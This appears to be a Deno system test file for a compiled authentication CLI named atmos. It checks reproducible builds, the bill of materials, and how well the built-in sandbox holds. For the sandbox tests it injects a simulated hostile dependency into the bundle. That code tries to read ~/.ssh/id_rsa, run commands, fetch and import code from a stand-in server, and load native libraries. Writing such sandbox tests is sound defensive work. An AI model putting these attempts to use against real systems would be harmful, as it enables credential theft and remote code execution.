/**
 * The compiled program: made twice alike, called by its names, and held by the sandbox that is baked into it. The other
 * system tests run against it when `ATMOS_TEST_PROGRAM` names it, as `.ci/run` does.
 */
import assert from "node:assert/strict";
// @ts-types="yaml/types"
import { parse } from "yaml";
import { bundleProgram } from "../../scripts/bundle.ts";
import { compile } from "../../scripts/compile.ts";
import { ownTarget, programFile, type Target } from "../../scripts/targets.ts";
import { compileProgram, denoForCompiling } from "./deno_for_compiling.ts";
import { start, testIf } from "./program.ts";
import { chainedConfig } from "./world.ts";

/** 220 MB are fetched for it, so it is asked for: with `true`; with `own` this Deno compiles, and fetches its runtime. */
const COMPILE = Deno.env.get("ATMOS_TEST_COMPILE") ?? "";
const ASKED = ["true", "own"].includes(COMPILE);
const directory = ASKED ? await Deno.makeTempDir({ prefix: "atmos-compiled-" }) : "";
const deno = COMPILE === "own"
  ? { compiler: Deno.execPath(), runtime: Deno.env.get("DENORT_BIN") }
  : ASKED
  ? await denoForCompiling()
  : "ATMOS_TEST_COMPILE is not true";
const target = ownTarget();
if (ASKED) globalThis.addEventListener("unload", () => Deno.removeSync(directory, { recursive: true }));

/** What the tests have, once it is compiled. */
interface Made {
  readonly target: Target;
  readonly compiling: Exclude<typeof deno, string>;
  /** The binary, in a directory with what belongs beside it. */
  readonly program: string;
  readonly out: string;
}

const lazy: { made?: Promise<Made> } = {};

function make(): Promise<Made> {
  return lazy.made ??= (async () => {
    assert.ok(typeof deno !== "string" && target !== undefined);
    const out = `${directory}/first`;
    await compileProgram(out, deno);
    return { target, compiling: deno, out, program: `${out}/${programFile(target)}` };
  })();
}

function compiledTest(name: string, test: (made: Made, home: string) => Promise<void>): void {
  const reason = typeof deno === "string" ? `nothing to compile with: ${deno}` : "no target for this system";
  testIf(typeof deno !== "string" && target !== undefined, reason, name, async () => {
    const home = await Deno.makeTempDir({ dir: directory });
    await test(await make(), home);
  });
}

const run = (words: readonly [string, ...string[]], home: string, env: Record<string, string> = {}) =>
  start(words, { directory: home, env: { HOME: home, PATH: Deno.env.get("PATH") ?? "", ...env } }).ended;

compiledTest("two compilations give the same bytes, and the sums beside them are right", async (made) => {
  const again = `${directory}/a longer name for the second`;
  await compileProgram(again, made.compiling);
  const sums = await Deno.readTextFile(`${made.out}/SHA256SUMS`);
  assert.equal(await Deno.readTextFile(`${again}/SHA256SUMS`), sums);
  const names = sums.trim().split("\n").map((line) => line.slice(66)).sort();
  assert.deepEqual(names, [
    "atmos-linux-x64",
    "atmos-linux-x64.cdx.json",
    "atmos.1",
    "atmos.bash",
    "atmos.fish",
    "atmos.ps1",
    "atmos.zsh",
  ]);
  for (const out of [made.out, again]) {
    const { code, stderr } = await run(["sha256sum", "--check", "--strict", "--quiet", "SHA256SUMS"], out);
    assert.deepEqual([code, stderr], [0, ""]);
  }
});

compiledTest("the bill of materials names what is in the binary, and nothing else", async ({ out }) => {
  const bill = JSON.parse(await Deno.readTextFile(`${out}/atmos-linux-x64.cdx.json`));
  const purls: string[] = bill.components.map(({ purl }: { purl: string }) => purl.replace(/@[^@]+$/, ""));
  for (const name of ["yaml", "valibot", "%40aws-sdk/client-sts", "%40smithy/core", "parse5"]) {
    assert.ok(purls.includes(`pkg:npm/${name}`), name);
  }
  for (const name of ["fast-check", "commander", "jsqr", "%40napi-rs/keyring"]) {
    assert.ok(!purls.includes(`pkg:npm/${name}`), name);
  }
  const refs = new Set(bill.components.map((component: { "bom-ref": string }) => component["bom-ref"]));
  for (const { dependsOn } of bill.dependencies) {
    for (const ref of dependsOn) assert.ok(refs.has(ref), ref);
  }
});

compiledTest(
  "called atmos-auth, by copy or by link, it goes without the word auth",
  async ({ program }, home) => {
    await Deno.mkdir(`${home}/bin`);
    await Deno.copyFile(program, `${home}/bin/atmos-auth`);
    await Deno.mkdir(`${home}/links`);
    await Deno.symlink(program, `${home}/links/atmos-auth`);
    const off = "Authentication is disabled by --identity=no\n";
    for (const name of [`${home}/bin/atmos-auth`, `${home}/links/atmos-auth`]) {
      for (const words of [["whoami", "-i", "no"], ["auth", "whoami", "-i", "no"]]) {
        assert.deepEqual(await run([name, ...words], home), { code: 0, stdout: off, stderr: "" });
      }
    }
    const byPath = await run(["sh", "-c", "atmos-auth whoami -i no"], home, {
      PATH: `${home}/links:/usr/bin:/bin`,
    });
    assert.deepEqual(byPath, { code: 0, stdout: off, stderr: "" });
    assert.equal((await run([program, "whoami", "-i", "no"], home)).code, 2);
  },
);

compiledTest("the release workflow's trial of a binary passes with this one", async ({ program }, home) => {
  const workflow = parse(
    await Deno.readTextFile(new URL("../../.github/workflows/release.yml", import.meta.url)),
  );
  const steps: readonly { readonly run?: string; readonly if?: string }[] = workflow.jobs.try.steps;
  await Deno.copyFile(program, `${home}/atmos`);
  const scripts = steps.flatMap((step) => step.run === undefined ? [] : [step.run]);
  assert.equal(scripts.length, 4);
  const script = scripts.join("\n").replaceAll("${{ matrix.program }}", "atmos").replace(
    "type: system",
    "type: file",
  );
  const env = { ATMOS_KEYRING_PASSWORD: "not-a-real-password" };
  const { code, stderr } = await run(["bash", "-e", "-c", script], home, env);
  assert.equal(code, 0, stderr);
});

compiledTest("it needs no Deno, and leaves nothing behind", async ({ program }, home) => {
  await Deno.writeTextFile(`${home}/atmos.yaml`, chainedConfig("https://mycompany.awsapps.com/start"));
  const ran = await run([program, "auth", "validate"], home, { PATH: "/nowhere", TMPDIR: home });
  assert.deepEqual(ran, { code: 0, stdout: "✓ Authentication configuration is valid\n", stderr: "" });
  assert.deepEqual(await Array.fromAsync(Deno.readDir(home), ({ name }) => name), ["atmos.yaml"]);
});

compiledTest("neither words nor variables of Deno widen what it may do", async ({ program }, home) => {
  const env = { DENO_FLAGS: "--allow-all", DENO_V8_FLAGS: "--allow-natives-syntax", DENO_NO_PROMPT: "0" };
  const flags = await run([program, "--allow-all", "auth", "whoami", "-i", "no"], home, env);
  assert.deepEqual([flags.code, flags.stdout], [2, ""]);
  assert.match(flags.stderr, /--allow-all/);
});

/** Attempts of hostile code, each with what it says when it is let through; `ELSEWHERE` is a server's `host:port`. */
const ATTEMPTS = `{
  read: () => Deno.readTextFileSync(Deno.env.get("HOME") + "/.ssh/id_rsa"),
  run: () => new Deno.Command("true").outputSync().code,
  fetch: async () => (await fetch("http://" + Deno.env.get("ELSEWHERE") + "/fetched")).text(),
  remote: () => import("http://" + Deno.env.get("ELSEWHERE") + "/imported.js"),
  secure: () => import("https://" + Deno.env.get("ELSEWHERE") + "/imported.js"),
  npm: () => import("npm:" + "left-pad@1.3.0"),
  jsr: () => import("jsr:" + "@std/assert@1"),
  worker: () => new Promise((resolve, reject) => {
    const worker = new Worker("http://" + Deno.env.get("ELSEWHERE") + "/worker.js", { type: "module" });
    worker.onmessage = () => resolve("it ran");
    worker.onerror = (event) => { event.preventDefault(); reject(new RangeError(event.message)); };
  }),
  native: () => Deno.dlopen("/lib/x86_64-linux-gnu/libc.so.6", { getpid: { parameters: [], result: "i32" } }).symbols.getpid(),
  hostname: () => Deno.hostname(),
  ask: async () => (await Deno.permissions.request({ name: "ffi" })).state === "granted" || fail("denied"),
}`;

/** The program with a dependency that turned hostile: it waits until the command is under way. */
async function withHostileChunk({ target, compiling }: Made, home: string, command: string): Promise<string> {
  const stage = await Deno.makeTempDir({ dir: home });
  await bundleProgram(`${stage}/bundle`);
  // What is started often is in one file; there hostile code waits for the same time.
  const prefix = command === "env" ? "work." : `${command}-`;
  const chunk = (await Array.fromAsync(Deno.readDir(`${stage}/bundle`), ({ name }) => name))
    .find((name) => name.startsWith(prefix));
  assert.ok(chunk !== undefined, `a chunk of ${command}`);
  const hostile = `;{
    const fail = (word) => { throw new Error(word); };
    const attempt = async () => {
      // A worker that failed keeps nobody alive.
      const alive = setInterval(() => {}, 100);
      const told = {};
      for (const [name, act] of Object.entries(${ATTEMPTS})) {
        try { told[name] = "let through: " + String(await act()); } catch (error) { told[name] = error.name; }
      }
      Deno.writeTextFileSync(Deno.env.get("REPORT"), JSON.stringify(told));
      clearInterval(alive);
    };
    const attempted = new Promise((resolve) => queueMicrotask(() => setTimeout(() => attempt().then(resolve), 0)));
    const exit = Deno.exit.bind(Deno);
    Deno.exit = (code) => void attempted.then(() => exit(code));
  }`;
  await Deno.writeTextFile(`${stage}/bundle/${chunk}`, hostile, { append: true });
  await compile(stage, `${stage}/hostile`, target, compiling);
  return `${stage}/hostile`;
}

/** A server that has code for who asks, and remembers every connection by its first line. */
function elsewhere(): AsyncDisposable & { readonly host: string; readonly reached: readonly string[] } {
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const reached: string[] = [];
  const code = "postMessage?.('run'); export {};";
  const answer = `HTTP/1.1 200 OK\r\ncontent-type: text/javascript\r\ncontent-length: ${code.length}\r\n` +
    `connection: close\r\n\r\n${code}`;
  const serving = (async () => {
    for await (const connection of listener) {
      const buffer = new Uint8Array(4096);
      const count = await connection.read(buffer) ?? 0;
      // A TLS handshake is no text, and counts as well.
      reached.push(new TextDecoder().decode(buffer.subarray(0, count)).split("\r\n")[0] ?? "");
      await connection.write(new TextEncoder().encode(answer));
      connection.close();
    }
  })();
  return {
    host: `127.0.0.1:${listener.addr.port}`,
    reached,
    [Symbol.asyncDispose]: async () => {
      listener.close();
      await serving;
    },
  };
}

/** What hostile code got done below a command, on a terminal, and what it reached elsewhere. */
async function attempts(made: Made, home: string, command: string) {
  await using server = elsewhere();
  await Deno.writeTextFile(`${home}/atmos.yaml`, chainedConfig("https://mycompany.awsapps.com/start"));
  await Deno.mkdir(`${home}/.ssh`);
  await Deno.writeTextFile(`${home}/.ssh/id_rsa`, "not a real key");
  const hostile = await withHostileChunk(made, home, command);
  const env = {
    REPORT: `${home}/report`,
    ELSEWHERE: server.host,
    NPM_CONFIG_REGISTRY: `http://${server.host}/npm/`,
    JSR_URL: `http://${server.host}/jsr/`,
  };
  // Where Deno would ask, were it not told not to.
  const onTerminal = ["script", "-qec", `${hostile} auth ${command} --interactive=false`, "/dev/null"];
  const { stdout } = await run(["timeout", "60", ...onTerminal], home, env);
  assert.doesNotMatch(stdout, /Allow\?|\[y\/n/);
  const report = await Deno.readTextFile(`${home}/report`).catch((cause) =>
    assert.fail(`${stdout}\n${cause}`)
  );
  return { told: JSON.parse(report), reached: [...server.reached] };
}

const ALWAYS = {
  remote: "TypeError",
  secure: "TypeError",
  npm: "TypeError",
  jsr: "TypeError",
  worker: "RangeError",
  native: "NotCapable",
  hostname: "NotCapable",
  ask: "Error",
};

compiledTest(
  "hostile code in `validate` can start nothing, reach nothing, load nothing and ask nobody; it can read",
  async (made, home) => {
    assert.deepEqual(await attempts(made, home, "validate"), {
      told: { ...ALWAYS, read: "let through: not a real key", run: "NotCapable", fetch: "NotCapable" },
      reached: [],
    });
  },
);

compiledTest(
  "hostile code in `env` can start programs and reach hosts, as that command may, and load no code",
  async (made, home) => {
    assert.deepEqual(await attempts(made, home, "env"), {
      told: {
        ...ALWAYS,
        read: "let through: not a real key",
        run: "let through: 0",
        fetch: "let through: postMessage?.('run'); export {};",
      },
      reached: ["GET /fetched HTTP/1.1"],
    });
  },
);
